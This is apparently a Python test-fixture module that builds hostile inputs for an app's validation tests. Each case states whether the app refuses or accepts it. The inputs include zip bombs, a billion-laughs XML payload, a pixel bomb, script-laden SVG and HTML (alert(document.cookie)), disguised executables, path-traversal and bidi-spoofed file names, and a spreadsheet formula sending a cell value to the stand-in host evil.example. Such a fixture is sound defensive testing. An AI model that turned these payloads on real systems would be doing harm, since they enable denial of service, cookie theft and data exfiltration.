"""The hostile inputs, built by code so that the corpus is readable and reviewable as text.

Every input has a name (it appears in the failure lists) and an expectation:

- REFUSE: it must be refused, with a Chinese message, storing nothing;
- ACCEPT: it is ordinary enough to be accepted (stored normalised where it is text);
- EITHER: refused or accepted are both right; whatever is stored must not be poisoned.
"""

import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

from tests.factories import jpeg_bytes

REFUSE, ACCEPT, EITHER = "refuse", "accept", "either"


@dataclass(frozen=True)
class Case:
    name: str
    value: object
    expect: str = REFUSE
    # For files: whether it is a picture, so that a photo field may accept it; a document field
    # accepts pictures and documents alike.
    image: bool = False
    document: bool = False


# ---- files -------------------------------------------------------------------------------------


def png_bytes(width: int = 32, height: int = 24, color=(40, 120, 200)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), color).save(buffer, format="PNG")
    return buffer.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares width × height pixels (a pixel bomb: a few hundred bytes
    that would decode to gigabytes). Its data holds one row; the rest is missing."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    row = zlib.compress(b"\x00" + b"\x00" * 3 * min(width, 4096))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", row) + _chunk(b"IEND", b"")


@functools.cache
def png_dense(width: int = 6000, height: int = 6000) -> bytes:
    """A real one-colour PNG of 36 megapixels, under the 40-megapixel limit: a few hundred KB
    on the wire, about 108 MB once decoded (a legitimate photo could be as large)."""
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (250, 250, 250)).save(buffer, format="PNG", optimize=False, compress_level=1)
    return buffer.getvalue()


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n%%EOF\n"
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200

WORKBOOK_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def content_types(part: str, main: str, *, prefix: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f"{prefix}"
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main}"/></Types>'
    ).encode()


def docx_bytes() -> bytes:
    """A small real Word document (python-docx)."""
    import docx

    document = docx.Document()
    document.add_paragraph("整改情况说明")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.append(["整改台账", 1])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


BOMB_BYTES = 300 * 1024 * 1024  # under core.ooxml's 600 MB total today: only a ratio bound stops it


@functools.cache
def zip_bomb(kind: str) -> bytes:
    """A real Office package (content types, main part) carrying one member of 300 MB of zeros
    that deflates to about 300 KB (ratio about 1000:1)."""
    part, main = ("xl/workbook.xml", WORKBOOK_MAIN) if kind == "xlsx" else ("word/document.xml", WORD_MAIN)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types(part, main))
        archive.writestr(part, b'<?xml version="1.0"?><root/>')
        block = b"\x00" * (1 << 20)
        with archive.open("media/zeros.bin", "w", force_zip64=True) as member:
            for _ in range(BOMB_BYTES // len(block)):
                member.write(block)
    return buffer.getvalue()


def zip_many_entries(kind: str, entries: int = 20_000) -> bytes:
    """A package of 20,000 empty members: nothing to inflate, everything to list."""
    part, main = ("xl/workbook.xml", WORKBOOK_MAIN) if kind == "xlsx" else ("word/document.xml", WORD_MAIN)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", content_types(part, main))
        archive.writestr(part, b'<?xml version="1.0"?><root/>')
        for i in range(entries):
            archive.writestr(f"x/{i}.bin", b"")
    return buffer.getvalue()


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
    + "]>"
)


def billion_laughs(kind: str) -> bytes:
    """[Content_Types].xml with nested entities (the "billion laughs")."""
    part, main = ("xl/workbook.xml", WORKBOOK_MAIN) if kind == "xlsx" else ("word/document.xml", WORD_MAIN)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        xml = content_types(part, main, prefix=LAUGHS).replace(b"<Types ", b"<Types a='&lol9;' ", 1)
        archive.writestr("[Content_Types].xml", xml)
        archive.writestr(part, b'<?xml version="1.0"?><root/>')
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not an office file")
    return buffer.getvalue()


OVERSIZED_BYTES = 40 * 1024 * 1024  # twice the 20 MB limit of core.services: over the memory bound if read whole


def oversized_jpeg() -> bytes:
    """A JPEG header followed by 40 MB: refused by size, whatever it holds."""
    return jpeg_bytes()[:20] + b"\x00" * OVERSIZED_BYTES


def file_cases() -> list[Case]:
    """(name, (file name, bytes)) for the upload surfaces. Built on each call: some are large,
    and the tests drop them once sent."""
    jpeg = jpeg_bytes(64, 48)
    return [
        # pictures that are not what they claim
        Case("truncated_jpeg", ("现场.jpg", jpeg[: len(jpeg) // 2])),
        Case("png_named_jpg", ("现场.jpg", png_bytes())),
        Case("pdf_named_jpg", ("现场.jpg", PDF)),
        Case("html_named_png", ("现场.png", HTML)),
        Case("svg_with_script", ("现场.svg", SVG)),
        Case("svg_named_png", ("现场.png", SVG)),
        Case("exe_named_jpg", ("现场.jpg", EXE)),
        Case("empty_jpg", ("现场.jpg", b"")),
        # After the image's end marker a browser sniffing the bytes may find a page: refused, or
        # stored without it (see harness: no stored file may hold "<script").
        Case("html_after_jpeg", ("现场.jpg", jpeg + HTML), expect=EITHER, image=True),
        Case("pixel_bomb_50000x50000", ("现场.png", png_declaring(50_000, 50_000))),
        Case("pixels_over_limit_7000x7000", ("现场.png", png_declaring(7_000, 7_000))),
        Case("oversized_40MB", ("现场.jpg", oversized_jpeg())),
        # documents that are not what they claim
        Case("html_named_pdf", ("说明.pdf", HTML)),
        Case("plain_zip_named_xlsx", ("台账.xlsx", plain_zip())),
        Case("plain_zip_named_docx", ("说明.docx", plain_zip())),
        Case("zip_bomb_named_xlsx", ("台账.xlsx", zip_bomb("xlsx"))),
        Case("zip_bomb_named_docx", ("说明.docx", zip_bomb("docx"))),
        Case("zip_20000_entries_docx", ("说明.docx", zip_many_entries("docx"))),
        Case("billion_laughs_docx", ("说明.docx", billion_laughs("docx"))),
        # ordinary files with hostile names: accepted (by the fields that take their kind), the
        # name stored without controls, bidi marks or folders
        Case("jpeg_named_with_folders", ("../../etc/现场.jpg", jpeg), expect=ACCEPT, image=True),
        Case("jpeg_named_with_nul", ("现场\x00.jpg", jpeg), expect=EITHER, image=True),
        Case("jpeg_named_with_bidi", ("现场\u202egpj.exe.jpg", jpeg), expect=ACCEPT, image=True),
        Case("jpeg_long_name", ("长" * 300 + ".jpg", jpeg), expect=ACCEPT, image=True),
        # real documents: a document field takes them, a photo field refuses them
        Case("real_pdf", ("说明.pdf", PDF), expect=ACCEPT, document=True),
        Case("real_docx", ("说明.docx", docx_bytes()), expect=ACCEPT, document=True),
        Case("real_xlsx", ("台账.xlsx", xlsx_bytes()), expect=ACCEPT, document=True),
    ]


# The dense picture is sent only to the surfaces that keep photos (tests/hostile/test_uploads.py):
# it costs a second of decoding each time.
DENSE = Case("png_36_megapixels", ("现场.png", b""), expect=ACCEPT, image=True)


# ---- text --------------------------------------------------------------------------------------

# C0 controls a text may not keep (tab and newline are text), DEL, bidi overrides and isolates,
# zero-width characters and the BOM: what a stored value must never contain (harness.poisoned).
FORBIDDEN_CHARS = (
    {chr(c) for c in range(0x20) if c not in (0x09, 0x0A)}
    | {"\x7f"}
    | {chr(c) for c in range(0x202A, 0x202F)}
    | {chr(c) for c in range(0x2066, 0x206A)}
    | {"\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"}
)

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
MARKUP = '<script>alert("x")</script><img src=x onerror=alert(1)>'

TEXT_CASES = [
    Case("nul", "巷口\x00垃圾"),
    Case("control_soh", "巷口\x01垃圾", expect=EITHER),  # stripped or refused
    Case("vertical_tab", "第一行\x0b第二行", expect=ACCEPT),  # Word's Shift+Enter: becomes \n
    Case("crlf", "第一行\r\n第二行", expect=ACCEPT),
    Case("bidi_override", "\u202e已整改完毕\u202c", expect=ACCEPT),
    Case("bidi_isolate", "\u2067已整改\u2069", expect=ACCEPT),
    Case("zero_width", "垃\u200b圾\u200d清\ufeff运", expect=ACCEPT),
    Case("formula", FORMULA, expect=ACCEPT),  # text; an export must not turn it into a formula
    Case("markup", MARKUP, expect=ACCEPT),  # text; every page must escape it
    Case("long_10k", "长" * 10_000, expect=EITHER),
    Case("oversized_3MB", "长" * (1024 * 1024), expect=REFUSE),  # 3 MB of UTF-8 in one field
]
# A representative subset for the fields that do not store what they are given (sign-in,
# filters) and for surfaces whose every field behaves alike: the kinds of character, not sizes.
TEXT_SUBSET = ["nul", "control_soh", "vertical_tab", "bidi_override", "zero_width", "markup"]


# ---- dates and numbers --------------------------------------------------------------------------

DATE_CASES = [
    Case("year_1", "0001-01-01"),
    Case("year_9999", "9999-12-31"),
    Case("february_30", "2026-02-30"),
    Case("before_2000", "1999-12-31"),
    Case("far_future_2200", "2200-01-01"),
    Case("not_a_date", "明天"),
    Case("nul_date", "2026-05-20\x00"),
]

DATETIME_CASES = [
    Case("year_1", "0001-01-01T00:00:00+08:00"),
    Case("year_9999", "9999-12-31T23:59:59+00:00"),
    Case("february_30", "2026-02-30T10:00:00+08:00"),
    Case("before_2000", "1999-12-31T10:00:00+08:00"),
    Case("far_future_2200", "2200-01-01T10:00:00+08:00"),
    Case("not_a_datetime", "昨天上午"),
]

NUMBER_CASES = [
    Case("nan", "NaN"),
    Case("infinity", "Infinity"),
    Case("minus_infinity", "-Infinity"),
    Case("huge_1e308", "1e308"),
    Case("huge_1e30", "1e30"),
    Case("minus_one", "-1", expect=EITHER),  # a coordinate may be negative; a count may not
    Case("int_overflow_2_64", str(2**64)),
    Case("not_a_number", "十"),
]


# ---- path segments -----------------------------------------------------------------------------

PATH_CASES = [
    Case("nul", "%00"),
    Case("nul_after_value", "{value}%00"),
    Case("control", "{value}%01"),
    Case("bidi", "{value}%E2%80%AE"),
    Case("markup", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    Case("dot_dot", ".."),
    Case("long_4000", "A" * 4000),
    Case("invalid_utf8", "%FF%FE"),
]
